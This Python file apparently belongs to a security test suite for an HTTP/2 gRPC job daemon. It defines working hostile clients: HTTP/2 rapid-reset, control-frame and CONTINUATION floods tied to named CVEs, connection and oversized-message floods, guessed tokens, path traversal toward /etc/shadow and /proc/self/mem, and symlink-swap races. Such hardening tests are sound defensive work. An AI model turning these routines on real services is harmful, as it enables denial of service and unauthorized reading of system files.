"""Hostile, broken and slow clients of a daemon, a function per kind."""

import dataclasses
import encodings.idna  # attackers cannot read the library of another user
import itertools
import multiprocessing
import os
import random
import resource
import shutil
import socket
import ssl
import time

import http2

FIRST_STRANGER = 60_000  # a user for each attack: whom one has kept out, the next one is not
FETCH, LIST, SUBMIT = "/weft.v1.Jobs/FetchResult", "/weft.v1.Jobs/ListJobs", "/weft.v1.Jobs/SubmitJob"


@dataclasses.dataclass
class Target:
    """What attackers know: the daemon, tokens of a viewer and of a client, an input, a folder of their own."""
    address: str
    secure_address: str
    token: str
    client_token: str
    job: str
    frame: str
    scene: str
    lair: str
    certificates: list  # authority, then certificate and key of clients that nobody should let in


def patient(act, target, until):
    """Acts again and again; refusals and broken connections are what attackers live with."""
    while time.monotonic() < until:
        try:
            act(target, until)
        except (OSError, ValueError):
            time.sleep(0.01)


def unread_streams(target, until):
    """Downloads with a window of 0 bytes, each connection as many as it may have."""
    fetch = http2.field(1, target.job) + http2.field(2, target.frame) + b"\x18\x01"
    connection = http2.connect(target.address, http2.PREFACE + http2.settings(initial_window_size=0))
    connection.sendall(b"".join(http2.call(1 + 2 * i, FETCH, fetch, target.token) for i in range(70)))
    time.sleep(max(0, until - time.monotonic()))


def half_open(target, until):
    """Connections that stop in the middle: of the preface, of a frame, of a message."""
    beginnings = [http2.PREFACE[:7], http2.PREFACE, http2.PREFACE + http2.settings()[:4],
                  http2.PREFACE + http2.settings() + http2.call(1, LIST, b"", target.token)[:60],
                  http2.PREFACE + http2.settings() + http2.frame(http2.HEADERS, 4, 1, http2.header_block(LIST, target.token)) +
                  http2.frame(http2.DATA, 0, 1, b"\0\0\0\4\0abc")]
    connections = []
    while time.monotonic() < until and len(connections) < 60:
        connections.append(http2.connect(target.address, random.choice(beginnings)))
    time.sleep(max(0, until - time.monotonic()))


def connection_flood(target, until):
    """As many connections as descriptors last."""
    connections = []
    try:
        while time.monotonic() < until:
            connections.append(http2.connect(target.address, b""))
            if len(connections) >= 900:
                connections.clear()
    finally:
        for connection in connections:
            connection.close()


def rapid_reset(target, until):
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    connection = http2.connect(target.address)
    for first in range(1, 2**30, 200):
        if time.monotonic() > until:
            return
        connection.sendall(b"".join(http2.call(stream, LIST, b"", target.token) + http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
                                    for stream in range(first, first + 200, 2)))


def control_frames(target, until):
    """CVE-2019-9512 and 9515: pings and settings that want answers, which nobody reads."""
    connection = http2.connect(target.address)
    while time.monotonic() < until:
        connection.sendall((http2.frame(http2.PING, 0, 0, b"12345678") + http2.settings()) * 100)


def endless_headers(target, until):
    """CVE-2024-27316 and the like: a block of headers that never ends."""
    connection = http2.connect(target.address)
    connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.header_block(LIST, target.token)))
    while time.monotonic() < until:
        connection.sendall(http2.frame(http2.CONTINUATION, 0, 1, b"\0\1a\x7f\x81\x7f" + b"b" * 16000))


def malformed(target, until):
    """Bytes that are no frames, frames that are no calls, messages that are no protobuf."""
    choices = [lambda: http2.noise(1000), lambda: http2.PREFACE + http2.noise(1000),
               lambda: http2.PREFACE + http2.settings() + http2.frame(random.randrange(256), random.randrange(256), random.randrange(9), http2.noise(99)),
               lambda: http2.PREFACE + http2.settings() + http2.call(1, LIST, http2.noise(200), target.token),
               lambda: http2.PREFACE + b"\xff\xff\xff\0\0\0\0\0\1" + http2.noise(99)]
    while time.monotonic() < until:
        connection = http2.connect(target.address, random.choice(choices)())
        time.sleep(0.002)
        connection.close()


def huge_messages(target, until):
    """Messages that say to be 4 GiB, and ones that are as large as they can be."""
    connection = http2.connect(target.address)
    connection.settimeout(5)
    for stream in range(1, 2**30, 2):
        if time.monotonic() > until:
            return
        connection.sendall(http2.frame(http2.HEADERS, 4, stream, http2.header_block(LIST, target.token)) +
                           http2.frame(http2.DATA, 0, stream, b"\0\xff\xff\xff\xff") + http2.frame(http2.DATA, 0, stream, bytes(16384)) * 8)


def strangers(target, until):
    """Calls with tokens that were guessed."""
    connection = http2.connect(target.address)
    for first in range(1, 2**30, 100):
        if time.monotonic() > until:
            return
        connection.sendall(b"".join(http2.call(stream, LIST, b"", "weft_" + os.urandom(32).hex()) for stream in range(first, first + 100, 2)))
        connection.recv(1 << 16)


def wrong_role(target, until):
    """A viewer who empties the trash, again and again."""
    connection = http2.connect(target.address)
    for first in range(1, 2**30, 100):
        if time.monotonic() > until:
            return
        connection.sendall(b"".join(http2.call(stream, "/weft.v1.Takes/EmptyTrash", b"", target.token) for stream in range(first, first + 100, 2)))
        connection.recv(1 << 16)


def greedy_reads(target, until):
    """Allowed calls, as fast as they can be sent."""
    connection = http2.connect(target.address)
    for first in range(1, 2**30, 100):
        if time.monotonic() > until:
            return
        connection.sendall(b"".join(http2.call(stream, LIST, b"", target.token) for stream in range(first, first + 100, 2)))
        connection.recv(1 << 16)


def submission(take, rig="rig.json", board="board.json", garment="template", key=None):
    """A request of SubmitJob, with results in the state folder."""
    spec = b"".join(http2.field(number, text) for number, text in enumerate((take, rig, board, garment), 1))
    return http2.field(1, spec) + (http2.field(3, key) if key else b"")


def submit_each(target, until, submissions):
    """Submits them in turn, as fast as answers come."""
    connection = http2.connect(target.address)
    connection.settimeout(5)
    for stream, request in zip(range(1, 2**30, 2), itertools.cycle(submissions)):
        if time.monotonic() > until:
            return
        connection.sendall(http2.call(stream, SUBMIT, request, target.client_token))
        connection.recv(1 << 16)


def of_scene(scene, **other):
    paths = {"take": scene, "rig": f"{scene}/rig.json", "board": f"{scene}/board.json", "garment": f"{scene}/template"}
    return submission(**{**paths, **other})


def path_tricks(target, until):
    """Inputs out of the allowed folders, by every way that a path knows."""
    up = "/..".join([target.scene] + [""] * 40)
    submit_each(target, until, [of_scene(target.scene, take=path) for path in ("/etc", up + "/etc", "/proc/self/root/etc", "relative", "", "/" * 500)] +
                [of_scene(target.scene, rig=path) for path in (up + "/etc/shadow", "/proc/self/mem", target.scene + "/rig.json/../../../../etc/passwd",
                                                               target.scene + "/\0/rig.json", target.scene + "/" + "a" * 4000, "\x1b[2J" * 20)])


def swapped_links(target, until):
    """A rig that is a file, a link to one that nobody may read, a file, ... all the while."""
    path = os.path.join(target.lair, "rig.json")
    swapper = multiprocessing.Process(target=swap_links, args=(path, os.path.join(target.scene, "rig.json"), until))
    swapper.start()
    submit_each(target, until, [of_scene(target.scene, rig=path)])
    swapper.join()


def swap_links(path, good, until):
    own = f"{path}.{os.getpid()}"
    while time.monotonic() < until:
        shutil.copy(good, own)
        os.replace(own, path)
        os.symlink("/etc/shadow", own)
        os.replace(own, path)


def special_files(target, until):
    """FIFOs that nobody writes, links to devices without an end."""
    fifo, device = (os.path.join(target.lair, f"{name}.{os.getpid()}") for name in ("fifo", "zeros"))
    os.mkfifo(fifo)
    os.symlink("/dev/zero", device)
    submit_each(target, until, [of_scene(target.scene, **{field: path}) for path in (fifo, device, "/dev/zero", "/dev/random")
                                for field in ("take", "rig", "board", "garment")])


def replayed_keys(target, until):
    """One request again and again, and the same key for others."""
    key = f"replayed-{os.getuid()}"
    submit_each(target, until, [of_scene(target.scene, key=key), of_scene(target.scene, key=key), of_scene(target.scene, board=f"{target.scene}/rig.json", key=key)])


def bad_certificates(target, until):
    """Clients whose certificates have expired, were revoked, or are of another authority."""
    authority, *clients = target.certificates
    host, port = target.secure_address.rsplit(":", 1)
    for at in itertools.count():
        if time.monotonic() > until:
            return
        context = ssl.create_default_context(cafile=authority)
        context.set_alpn_protocols(["h2"])
        context.load_cert_chain(*clients[2 * at % len(clients):][:2])
        try:
            # From an address of its own, as another machine would: a daemon keeps the whole address out.
            there = socket.create_connection((host, int(port)), timeout=5, source_address=("127.66.0.1", 0))
            with context.wrap_socket(there, server_hostname=host) as connection:
                connection.sendall(http2.PREFACE + http2.settings() + http2.call(1, LIST, b""))
                while connection.recv(1 << 16):
                    pass
        except OSError:
            pass


ATTACKS = {attack.__name__: attack for attack in (unread_streams, half_open, connection_flood, rapid_reset, control_frames, endless_headers,
                                                 malformed, huge_messages, strangers, wrong_role, greedy_reads, path_tricks,
                                                 swapped_links, special_files, replayed_keys, bad_certificates)}
# Those that make no call which could be refused; connections that end without a call are named later.
SILENT = {"control_frames", "endless_headers", "rapid_reset", "unread_streams", "half_open", "huge_messages", "malformed"}


def attack_as_stranger(name, user, target, seconds):
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # as if it were another machine
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4096), most))
    patient(ATTACKS[name], target, time.monotonic() + seconds)
